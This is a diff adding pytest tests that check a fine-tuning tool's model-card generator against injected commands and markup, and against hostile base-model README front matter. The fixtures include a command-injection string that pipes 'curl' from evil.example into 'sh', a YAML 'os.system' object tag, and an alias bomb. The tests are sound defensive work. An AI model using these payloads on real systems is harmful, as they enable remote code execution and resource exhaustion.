@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
+import pytest
 import yaml
 from huggingface_hub import ModelCard
 from tests.support.evaluation_runs import EvaluationRun
 
+from finetune_api import INSTALL
 from finetune_api.spec import FineTuneJob
-from finetune_trainer.evaluate.card import CardFacts, model_card, plain
+from finetune_trainer.evaluate.card import CardFacts, base_license, model_card, plain
 from finetune_trainer.publish.stage import card_facts, read_results
 
 
@@ -105,3 +109,47 @@ def test_the_licence_of_the_base_is_taken_over(evaluated: EvaluationRun) -> None
 
 def test_markup_in_a_name_stays_text() -> None:
     assert plain("a|b <img src=x>\n# no") == "a\\|b \\<img src=x\\> \\# no"
+
+
+def test_versions_from_the_run_volume_cannot_write_commands_or_markup(evaluated: EvaluationRun) -> None:
+    facts = facts_of(evaluated)
+    evil = '0.1.0"; curl -s https://evil.example/x | sh; echo "\n```\n\n<a href=https://evil.example>'
+    origin = {"versions": {"finetune-operator": evil, "torch": "2.15.0+cu130", "peft": ["0.21"]}}
+    card = model_card(replace(facts, origin=origin))
+    assert "evil" not in card
+    assert "2.15.0+cu130" in card
+    assert f"```bash\n{INSTALL.format(extra='trainer')}\nfinetune run job.yaml\n```" in card
+    assert model_card(replace(facts, origin={"versions": "none"}))
+
+
+def test_the_installation_on_the_card_names_a_repository_and_the_version(evaluated: EvaluationRun) -> None:
+    card = model_card(replace(facts_of(evaluated), origin={"versions": {"finetune-operator": "0.1.0"}}))
+    (line,) = [line for line in card.splitlines() if line.startswith("pip install")]
+    assert " @ git+https://" in line
+    assert "# finetune-operator 0.1.0\n" in card
+
+
+ALIAS_BOMB = "a: &a [x]\n" + "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in pairwise("abcdefghi")) + "license: *i"
+
+
+@pytest.mark.parametrize(
+    ("head", "found"),
+    [
+        ("license: apache-2.0", "apache-2.0"),
+        ("license: [a, b]", None),
+        ("license: 'x\\n---\\nevil: 1'", None),
+        ("model-index: 5\nlicense: mit", "mit"),
+        ("a: " + "[" * 5000, None),
+        ("license: !!python/object:os.system x", None),
+        (ALIAS_BOMB, None),
+    ],
+)
+def test_the_licence_of_a_strangers_readme(tmp_path: Path, head: str, found: str | None) -> None:
+    (tmp_path / "README.md").write_text(f"---\n{head}\n---\n# base\n")
+    assert base_license(tmp_path) == found
+
+
+def test_a_base_without_a_readable_card_has_no_licence(tmp_path: Path) -> None:
+    assert base_license(tmp_path) is None
+    (tmp_path / "README.md").write_bytes(b"---\nlicense: \xff\xfe\n---\n")
+    assert base_license(tmp_path) is None
